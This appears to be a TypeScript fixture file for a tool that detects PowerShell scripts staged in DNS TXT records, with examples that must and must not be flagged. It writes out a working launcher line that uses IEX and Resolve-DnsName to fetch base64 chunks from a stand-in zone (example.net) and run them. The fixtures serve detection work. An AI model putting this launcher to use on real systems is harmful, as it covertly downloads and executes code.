import type { ToolExample } from '../../tool.ts';
import { type ExampleLine, exampleChannel } from '../support/example.ts';
import { TYPE } from '../support/records.ts';

function lines(text: string, drop: number): ExampleLine[] {
  const zone = 'd.example.net';
  const encoded = Buffer.from(text)
    .toString('base64')
    .match(/.{1,40}/g)!;
  const launcher = `IEX([System.Text.Encoding]::UTF8.GetString([System.Convert]::FromBase64String((0..${encoded.length - 1} | % {Resolve-DnsName -type TXT -Name "tool-ps1.$_.${zone}" | Where-Object Section -eq Answer | Select -ExpandProperty Strings}))))`;
  const chunks = encoded.map((chunk, i) => ({
    name: `tool-ps1.${i}.${zone}`,
    type: TYPE.txt,
    txt: [chunk],
    ttl: 1,
  }));
  return [
    { name: `tool-ps1.exec.${zone}`, type: TYPE.txt, txt: [launcher], ttl: 1 },
    ...chunks.slice(0, chunks.length - drop),
  ];
}

/** Channels that must be recognised. */
export function examples(): ToolExample[] {
  const script = 'Write-Output "this stands for a script that is longer than one record"';
  return [
    { about: 'a script, whole', channel: exampleChannel('zone', 'example.net', lines(script, 0)) },
    {
      about: 'a script, its end missing',
      channel: exampleChannel('zone', 'example.net', lines(script, 1)),
    },
  ];
}

/** Channels that must not be. */
export function notThese(): ToolExample[] {
  return [
    {
      about: 'numbered TXT records without a launcher',
      channel: exampleChannel(
        'zone',
        'example.net',
        lines('text that is no script at all, only text', 0).slice(1),
      ),
    },
    {
      about: 'documentation in a TXT record',
      channel: exampleChannel('zone', 'example.com', [
        {
          name: 'help.example.com',
          type: TYPE.txt,
          txt: [
            'To read a record on Windows use Resolve-DnsName -type TXT -Name "www.example.com" in PowerShell, please.',
          ],
        },
      ]),
    },
  ];
}
